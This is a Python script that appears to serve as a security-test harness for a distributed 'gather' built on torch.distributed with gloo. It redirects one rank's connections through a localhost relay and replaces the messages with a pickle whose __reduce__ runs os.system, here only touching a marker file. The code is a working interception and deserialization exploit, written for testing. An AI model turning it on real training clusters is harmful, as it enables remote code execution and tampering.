"""A rank whose connections an attacker relays: ``python relayed.py RANK STORE MARK``.

The attacker has rewritten the other rank's address in the store. Every connection that is made by it passes through a
relay, which replaces messages.
"""

import json
import os
import pickle
import re
import socket
import sys
import threading
from datetime import timedelta

import torch.distributed as dist

from parallel.mesh import COPIES, Mesh

TEXT = "x" * 2000
TIMEOUT = timedelta(seconds=20)
_ADDRESS = re.compile(rb"(..)(\x7f\x00\x00\x01)", re.DOTALL)  # port and 127.0.0.1, as in a sockaddr_in
# The first part of the text as JSON: gloo sends a message in two.
_MESSAGE = re.compile(rb'"x{300,}', re.DOTALL)
# gloo's rank with the lower address waits for the other, and both must agree on which that is. The ports are compared
# with their bytes swapped: rank 0's relay has the lowest, rank 1's the highest.
_FAKE_PORTS = {0: range(0x0400, 0x8000, 256), 1: range(0xFFFF, 0xEF00, -256)}


class RewrittenStore(dist.Store):
    """The store after the attack: the other rank is found at the relay."""

    def __init__(self, store: dist.Store, other: int, mark: str) -> None:
        super().__init__()
        self._store, self._other, self._mark = store, other, mark

    def set(self, key, value):
        self._store.set(key, value)

    def get(self, key):
        value = bytes(self._store.get(key))
        return _ADDRESS.sub(self._redirect, value) if key.endswith(f"/{self._other}") else value

    def add(self, key, value):
        return self._store.add(key, value)

    def wait(self, keys, timeout=TIMEOUT):
        self._store.wait(keys, timeout)

    def check(self, keys):
        return self._store.check(keys)

    def set_timeout(self, timeout):
        self._store.set_timeout(timeout)

    def _redirect(self, address: re.Match) -> bytes:
        port = int.from_bytes(address[1], "big")
        for fake in _FAKE_PORTS[self._other]:
            try:
                listener = socket.create_server(("127.0.0.1", fake))
                break
            except OSError:
                continue
        threading.Thread(target=self._relay, args=(listener, port), daemon=True).start()
        return fake.to_bytes(2, "big") + address[2]

    def _relay(self, listener: socket.socket, port: int) -> None:
        while True:
            near, _ = listener.accept()
            far = socket.create_connection(("127.0.0.1", port))
            for source, target in ((near, far), (far, near)):
                threading.Thread(target=self._pump, args=(source, target), daemon=True).start()

    def _pump(self, source: socket.socket, target: socket.socket) -> None:
        while data := source.recv(1 << 16):
            if _MESSAGE.search(data):
                print("replaced", file=sys.stderr, flush=True)
            target.sendall(_MESSAGE.sub(self._replace, data))

    def _replace(self, message: re.Match) -> bytes:
        size = len(message[0])
        command = pickle.dumps(_Run(f"touch {self._mark}"))
        assert len(command) <= size
        return command.ljust(size, b" ")


class _Run:
    """Its pickle runs a command when it is read."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self):
        return os.system, (self._command,)


def main(rank: int, path: str, mark: str) -> None:
    """Gathers a text from both ranks, and prints what came."""
    os.environ["GLOO_SOCKET_IFNAME"] = "lo"
    store = RewrittenStore(dist.FileStore(path, 2), 1 - rank, mark)
    dist.init_process_group("gloo", store=store, rank=rank, world_size=2, timeout=TIMEOUT)
    print(json.dumps(Mesh({COPIES: 2}, rank).gather(TEXT)), flush=True)


if __name__ == "__main__":
    main(int(sys.argv[1]), *sys.argv[2:])
